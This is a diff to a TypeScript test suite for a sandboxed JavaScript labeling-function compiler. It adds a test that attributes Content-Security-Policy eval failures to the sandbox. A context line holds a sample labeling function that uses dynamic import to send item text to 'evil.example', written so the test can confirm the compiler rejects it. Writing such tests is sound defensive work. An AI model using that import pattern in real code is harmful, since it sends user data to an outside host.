@@ -37,6 +37,17 @@ describe('compileJsLf', () => {
     expect(caught(() => lf('   ', 'empty')).code).toBe('lf-compile');
   });
 
+  it('blames the sandbox, not the LF, when its CSP forbids compiling', () => {
+    const blocked: FunctionFactory = () => {
+      const error = new Error("Evaluating a string as JavaScript violates the following Content Security Policy directive");
+      error.name = 'EvalError';
+      throw error;
+    };
+    const error = caught(() => compileJsLf({ id: 'a', name: 'fine', source: '() => -1' }, blocked));
+    expect(error.code).toBe('lf-sandbox');
+    expect(error.message).toMatch(/^JS LFs cannot run: the sandbox worker's Content-Security-Policy lacks 'unsafe-eval'/);
+  });
+
   it('refuses the word import, and its escaped spellings do not compile at all', () => {
     const error = caught(() => lf("(item) => { import('https://evil.example/?' + item.text); return -1 }", 'leaky'));
     expect(error.code).toBe('lf-forbidden');
